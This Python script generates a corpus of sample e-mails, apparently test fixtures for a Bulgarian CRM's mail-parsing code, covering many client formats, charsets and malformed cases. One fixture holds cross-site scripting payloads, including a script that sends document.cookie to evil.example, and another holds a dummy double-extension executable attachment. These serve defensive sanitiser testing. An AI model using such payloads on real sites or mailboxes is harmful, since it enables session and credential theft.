"""Writes the .eml files of this folder (run once; the files are committed, this is how they were
made). Shapes follow what Gmail, Outlook, Thunderbird, Yandex, mail.ru, Exchange and Postfix
really send: their header sets, encodings and quoting. The fixed names the tests rely on:

- our outgoing e-mail: Message-ID <out-1@crm.firm.bg>, number OUT-2026-00001, thread TH-2026-00001
  "Оферта за профили" (the test substitutes the numbers it really got);
- Акме ООД, office@acme.bg; its contact Иван Петров, ivan.petrov@acme.bg;
- the Reply-To token crm+th-2026-00001.0123456789abcdef0123@firm.bg (the test signs it for real).

    .venv/bin/python crm/tests/mail_corpus/make_corpus.py
"""

import base64
import quopri
from pathlib import Path

HERE = Path(__file__).parent
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg=="
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def b64(data: bytes) -> str:
    text = base64.b64encode(data).decode()
    return "\n".join(text[i : i + 76] for i in range(0, len(text), 76))


def word(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def qp(text: str, charset: str) -> str:
    return quopri.encodestring(text.encode(charset)).decode()


GMAIL_REPLY = """\
Delivered-To: crm@firm.bg
Received: by 2002:a05:6a10:1a4d:b0:5f1 with SMTP id d13csp1234567pxb;
        Tue, 1 Dec 2026 09:12:01 -0800 (PST)
MIME-Version: 1.0
References: <out-1@crm.firm.bg>
In-Reply-To: <out-1@crm.firm.bg>
From: =?UTF-8?B?0JjQstCw0L0g0J/QtdGC0YDQvtCy?= <ivan.petrov@acme.bg>
Date: Tue, 1 Dec 2026 19:11:48 +0200
Message-ID: <CAF=gmail-reply-1@mail.gmail.com>
Subject: Re: [TH-2026-00001] =?UTF-8?B?0J7RhNC10YDRgtCwINC30LAg0L/RgNC+0YTQuNC70Lg=?=
To: CRM <crm@firm.bg>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3"

--000000000000a1b2c3
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

{plain}
--000000000000a1b2c3
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: base64

{html}
--000000000000a1b2c3--
""".format(
    plain=b64(
        "Благодаря, приемаме офертата.\r\n\r\nOn Mon, 30 Nov 2026 at 10:00, CRM <crm@firm.bg> wrote:\r\n"
        "> Здравейте,\r\n> изпращаме ви офертата за профили.\r\n".encode()
    ),
    html=b64(
        '<div dir="ltr">Благодаря, приемаме офертата.</div><br><div class="gmail_quote">'
        "<blockquote>Здравейте,<br>изпращаме ви офертата.</blockquote></div>".encode()
    ),
)


def outlook_reply(serial: int, subject: str, body: str, extra: str = "") -> str:
    return f"""\
Received: from EUR05-DB8-obe.outbound.protection.outlook.com (mail-db8eur05on2100.outbound.protection.outlook.com
 [40.107.20.100])
From: Ivan Petrov <ivan.petrov@acme.bg>
To: "crm@firm.bg" <crm@firm.bg>
Subject: {subject}
Thread-Topic: {subject}
Thread-Index: AQHa1b2c3d4e5f6g7h8i9j0k
Date: Tue, 1 Dec 2026 17:20:00 +0000
Message-ID: <AM0PR07MB1234ABCD{serial:08d}@AM0PR07MB1234.eurprd07.prod.outlook.com>
{extra}Accept-Language: bg-BG, en-US
Content-Language: bg-BG
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64(body.encode())}
"""


FILES = {
    "01_gmail_reply_references.eml": GMAIL_REPLY,
    "02_outlook_reply_no_references.eml": outlook_reply(
        2,
        f"RE: [TH-2026-00001] {word('Оферта за профили')}",
        "Кога е доставката?\r\n\r\n________________________________\r\nFrom: CRM <crm@firm.bg>\r\n"
        "Sent: Monday, November 30, 2026 10:00 AM\r\nTo: Ivan Petrov <ivan.petrov@acme.bg>\r\n"
        "Subject: [TH-2026-00001] Оферта за профили\r\n\r\nЗдравейте,\r\nизпращаме ви офертата.\r\n",
    ),
    "03_outlook_bg_bare_in_reply_to.eml": outlook_reply(
        3,
        word("ОТГ: Оферта за профили"),
        "Потвърждаваме.\r\n\r\nОт: CRM <crm@firm.bg>\r\nИзпратено: понеделник, 30 ноември 2026 г. 10:00\r\n"
        "До: Иван Петров <ivan.petrov@acme.bg>\r\nОтносно: Оферта за профили\r\n\r\nЗдравейте\r\n",
        extra="In-Reply-To: out-1@crm.firm.bg\n",
    ),
    "04_references_only_middle.eml": outlook_reply(
        4,
        "Re: something else",
        "Още един въпрос.\r\n",
        extra="References: <unknown-1@elsewhere.bg> <out-1@crm.firm.bg> <unknown-2@elsewhere.bg>\n",
    ),
    "05_reply_token_plus_address.eml": """\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm+th-2026-00001.0123456789abcdef0123@firm.bg
Subject: =?UTF-8?Q?=D0=92=D1=8A=D0=BF=D1=80=D0=BE=D1=81?=
Date: Tue, 01 Dec 2026 18:00:00 +0200
Message-ID: <token-reply-1@acme.bg>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Въпрос без номер в темата.
""",
    "06_document_number_in_subject.eml": """\
From: office@acme.bg
To: crm@firm.bg
Subject: Fwd: OUT-2026-00001 - въпрос
Date: Tue, 01 Dec 2026 18:05:00 +0200
Message-ID: <docnum-1@acme.bg>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Относно вашето писмо OUT-2026-00001.
""",
    "07_new_thread_known_counterparty.eml": """\
From: =?UTF-8?B?0JDQutC80LUg0J7QntCU?= <Office@Acme.bg>
To: crm@firm.bg
Subject: =?UTF-8?B?0J3QvtCy0L4g0LfQsNC/0LjRgtCy0LDQvdC1?=
Date: Wed, 02 Dec 2026 08:00:00 +0200
Message-ID: <new-1@acme.bg>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Искаме оферта за 200 бр.
""",
    "08_new_thread_unknown_sender.eml": """\
From: =?UTF-8?B?0JzQsNGA0LjRjyDQk9C10L7RgNCz0LjQtdCy0LA=?= <maria@unknown.bg>
To: crm@firm.bg
Subject: =?UTF-8?B?0JfQsNC/0LjRgtCy0LDQvdC1?=
Date: Wed, 02 Dec 2026 09:00:00 +0200
Message-ID: <new-2@unknown.bg>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Здравейте, имате ли каталог?
""",
    "09_sender_upper_case.eml": """\
From: IVAN PETROV <IVAN.PETROV@ACME.BG>
To: crm@firm.bg
Subject: Capitals
Date: Wed, 02 Dec 2026 09:30:00 +0200
Message-ID: <caps-1@acme.bg>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello in capitals.
""",
    "10_forwarded_inline.eml": """\
From: Maria <maria@unknown.bg>
To: crm@firm.bg
Subject: Fwd: =?UTF-8?B?0J/QvtGA0YrRh9C60LA=?=
Date: Wed, 02 Dec 2026 10:00:00 +0200
Message-ID: <fwd-inline-1@unknown.bg>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Виж по-долу.

---------- Forwarded message ---------
From: Доставчик <sales@supplier.bg>
Date: Tue, Dec 1, 2026 at 5:00 PM
Subject: Поръчка
To: <maria@unknown.bg>

Поръчката е готова.
""",
    "11_forwarded_as_attachment.eml": """\
From: Maria <maria@unknown.bg>
To: crm@firm.bg
Subject: FW: order
Date: Wed, 02 Dec 2026 10:30:00 +0200
Message-ID: <fwd-att-1@unknown.bg>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwdboundary"

--fwdboundary
Content-Type: text/plain; charset=UTF-8

See the attached message.

--fwdboundary
Content-Type: message/rfc822
Content-Disposition: attachment; filename="order.eml"

From: Supplier <sales@supplier.bg>
To: maria@unknown.bg
Subject: order
Date: Tue, 01 Dec 2026 17:00:00 +0200
Message-ID: <inner-1@supplier.bg>
Content-Type: text/plain; charset=us-ascii

The order is ready.

--fwdboundary--
""",
    "12_windows_1251.eml": f"""\
From: =?windows-1251?B?{base64.b64encode("Петър Стоянов".encode("cp1251")).decode()}?= <petar@old-client.bg>
To: crm@firm.bg
Subject: =?windows-1251?B?{base64.b64encode("Запитване за цена".encode("cp1251")).decode()}?=
Date: Wed, 2 Dec 2026 11:00:00 +0200
Message-ID: <000001d9a1b2$c3d4e5f0$@old-client.bg>
X-Mailer: Microsoft Outlook 14.0
MIME-Version: 1.0
Content-Type: text/plain; charset="windows-1251"
Content-Transfer-Encoding: quoted-printable

{qp("Моля, изпратете цена за 50 броя.", "cp1251")}
""",
    "13_koi8_r.eml": f"""\
From: =?koi8-r?B?{base64.b64encode("Сергей".encode("koi8-r")).decode()}?= <sergey@yandex.ru>
To: crm@firm.bg
Subject: =?koi8-r?B?{base64.b64encode("Счёт на оплату".encode("koi8-r")).decode()}?=
Date: Wed, 2 Dec 2026 12:00:00 +0300
Message-ID: <1234567890@web12.yandex.ru>
X-Mailer: Yamail [ http://yandex.ru ] 5.0
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit

""".encode("ascii").decode()
    + "{KOI8_BODY}",
    "14_utf8_quoted_printable_thunderbird.eml": f"""\
From: Georgi <georgi@example.bg>
To: crm@firm.bg
Subject: =?UTF-8?Q?=D0=A0=D0=B5=D0=BA=D0=BB=D0=B0=D0=BC=D0=B0=D1=86=D0=B8=D1=8F?=
Date: Wed, 2 Dec 2026 13:00:00 +0200
Message-ID: <a1b2c3d4-tb@example.bg>
User-Agent: Mozilla Thunderbird
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: quoted-printable

{qp("Профилите пристигнаха счупени.", "utf-8")}
""",
    "15_rfc2231_continuation_filename.eml": f"""\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm@firm.bg
Subject: =?UTF-8?B?0JTQvtCz0L7QstC+0YA=?=
Date: Wed, 2 Dec 2026 14:00:00 +0200
Message-ID: <rfc2231-1@acme.bg>
User-Agent: Mutt/2.2
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mutt2231"

--mutt2231
Content-Type: text/plain; charset=utf-8
Content-Disposition: inline

Прилагам договора.

--mutt2231
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8''%D0%94%D0%BE%D0%B3%D0%BE;
 filename*1*=%D0%B2%D0%BE%D1%80.pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--mutt2231--
""",
    "16_rfc2047_filename_outlook.eml": f"""\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm@firm.bg
Subject: =?utf-8?B?0KTQsNC60YLRg9GA0LA=?=
Date: Wed, 2 Dec 2026 14:30:00 +0200
Message-ID: <rfc2047-1@acme.bg>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_NextPart_000_0001_01D9"

------=_NextPart_000_0001_01D9
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64("Фактурата е приложена.".encode())}
------=_NextPart_000_0001_01D9
Content-Type: application/pdf; name="{word("Фактура 15.pdf")}"
Content-Disposition: attachment; filename="{word("Фактура 15.pdf")}"
Content-Transfer-Encoding: base64

{b64(PDF)}
------=_NextPart_000_0001_01D9--
""",
    "17_html_only.eml": """\
From: News Person <person@example.bg>
To: crm@firm.bg
Subject: HTML only
Date: Wed, 2 Dec 2026 15:00:00 +0200
Message-ID: <html-only-1@example.bg>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 8bit

<html><head><style>p {color: red}</style></head><body>
<p style="color:red;font-size:30px" class="big">Здравейте, <b>важно</b> съобщение.</p>
<table><tr><td style="background:url(https://tracker.example/x.png)">Цена</td><td>12 лв.</td></tr></table>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<p><a href="https://example.bg/catalogue" style="x">Каталог</a></p>
</body></html>
""",
    "18_html_with_script.eml": """\
From: Attacker <evil@example.com>
To: crm@firm.bg
Subject: <script>alert(1)</script> invoice
Date: Wed, 2 Dec 2026 15:30:00 +0200
Message-ID: <script-1@example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8

<p onclick="steal()">Hi</p><script>document.location='https://evil.example/'+document.cookie</script>
<a href="javascript:alert(2)">click</a><img src=x onerror="alert(3)"><iframe src="https://evil.example"></iframe>
<svg onload="alert(4)"></svg><form action="https://evil.example"><input name="p"></form>
""",
    "19_inline_image_related.eml": f"""\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm@firm.bg
Subject: =?UTF-8?B?0KHQvdC40LzQutCw?=
Date: Wed, 2 Dec 2026 16:00:00 +0200
Message-ID: <inline-img-1@acme.bg>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt1"

--alt1
Content-Type: text/plain; charset=UTF-8

Вижте снимката: [image: snimka.png]

--alt1
Content-Type: multipart/related; boundary="rel1"

--rel1
Content-Type: text/html; charset=UTF-8

<p>Вижте снимката: <img src="cid:ii_abc123"></p>

--rel1
Content-Type: image/png; name="snimka.png"
Content-Disposition: inline; filename="snimka.png"
Content-ID: <ii_abc123>
Content-Transfer-Encoding: base64

{b64(PNG)}
--rel1--

--alt1--
""",
    "20_calendar_invite.eml": """\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm@firm.bg
Subject: =?UTF-8?B?0J/QvtC60LDQvdCwOiDQodGA0LXRidCw?=
Date: Wed, 2 Dec 2026 16:30:00 +0200
Message-ID: <invite-1@acme.bg>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="cal1"

--cal1
Content-Type: text/plain; charset=UTF-8

Среща в четвъртък от 10:00.

--cal1
Content-Type: text/calendar; charset=UTF-8; method=REQUEST

BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20261203T080000Z
DTEND:20261203T090000Z
UID:abc123@google.com
SUMMARY:Среща
END:VEVENT
END:VCALENDAR

--cal1--
""",
    "28_dsn_bounce.eml": """\
Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.firm.bg>
To: crm@firm.bg
Subject: Undelivered Mail Returned to Sender
Date: Wed, 2 Dec 2026 17:00:00 +0200
Message-ID: <20261202150000.ABCDEF@mx.firm.bg>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dsn1"

--dsn1
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.firm.bg.
I'm sorry to have to inform you that your message could not be delivered.

--dsn1
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.firm.bg
Arrival-Date: Wed,  2 Dec 2026 16:59:58 +0200 (EET)

Final-Recipient: rfc822; nobody@acme.bg
Original-Recipient: rfc822;nobody@acme.bg
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <nobody@acme.bg>: Recipient address rejected: User unknown

--dsn1
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: CRM <crm@firm.bg>
To: nobody@acme.bg
Subject: [TH-2026-00001] Offer
Message-ID: <out-1@crm.firm.bg>

--dsn1--
""",
    "29_malformed.eml": """\
From: broken sender without address
To: crm@firm.bg
Subject: =?utf-8?B?broken-base64!!!?= =?unknown-charset?Q?abc?=
Date: not a date at all
Message-ID: <malformed-1@nowhere>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"
Content-Transfer-Encoding: 8bit

--never-closed
Content-Type: text/plain; charset=x-unknown-charset
Content-Transfer-Encoding: base64

this is not base64 ### but text
--never-closed
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=bad''%ZZ%
""",
    "30_no_date.eml": """\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm@firm.bg
Subject: No date
Message-ID: <nodate-1@acme.bg>
Content-Type: text/plain; charset=UTF-8

Без дата.
""",
    "31_executable_attachment.eml": f"""\
From: Ivan Petrov <ivan.petrov@acme.bg>
To: crm@firm.bg
Subject: invoice
Date: Wed, 2 Dec 2026 18:00:00 +0200
Message-ID: <exe-1@acme.bg>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="exe1"

--exe1
Content-Type: text/plain; charset=UTF-8

See the invoice.

--exe1
Content-Type: application/octet-stream; name="invoice.pdf.exe"
Content-Disposition: attachment; filename="invoice.pdf.exe"
Content-Transfer-Encoding: base64

{b64(b"MZ" + bytes(200))}
--exe1--
""",
    "32_gmail_reply_cc_twice.eml": GMAIL_REPLY.replace(
        "Delivered-To: crm@firm.bg", "Delivered-To: sales@firm.bg"
    ).replace("To: CRM <crm@firm.bg>", "To: CRM <crm@firm.bg>\nCc: sales@firm.bg"),
}

AUTO = {
    "21_auto_submitted.eml": "Auto-Submitted: auto-replied\n",
    "22_x_autoreply.eml": "X-Autoreply: yes\n",
    "23_x_autorespond.eml": "X-Autorespond: Out of office\n",
    "24_precedence_bulk.eml": "Precedence: bulk\n",
    "25_precedence_junk.eml": "Precedence: junk\n",
    "26_precedence_list.eml": "Precedence: list\nList-Id: <news.example.bg>\n",
    "27_x_autogenerated_reply.eml": "X-Autogenerated: Reply\nX-Auto-Response-Suppress: All\n",
}


def main() -> None:
    for name, text in FILES.items():
        data = text.replace("\r\n", "\n").encode("utf-8")
        if "{KOI8_BODY}" in text:
            data = data.replace(b"{KOI8_BODY}", "Прошу выставить счёт на оплату.\n".encode("koi8-r"))
        (HERE / name).write_bytes(data.replace(b"\n", b"\r\n"))
    for index, (name, header) in enumerate(AUTO.items(), start=1):
        text = (
            "From: Ivan Petrov <ivan.petrov@acme.bg>\nTo: crm@firm.bg\n"
            f"Subject: =?UTF-8?B?{base64.b64encode('Автоматичен отговор: Извън офиса'.encode()).decode()}?=\n"
            f"Date: Wed, 2 Dec 2026 09:0{index}:00 +0200\nMessage-ID: <auto-{index}@acme.bg>\n"
            f"In-Reply-To: <out-1@crm.firm.bg>\n{header}MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
            "Извън офиса съм до 10 декември.\n"
        )
        (HERE / name).write_bytes(text.encode().replace(b"\n", b"\r\n"))


if __name__ == "__main__":
    main()
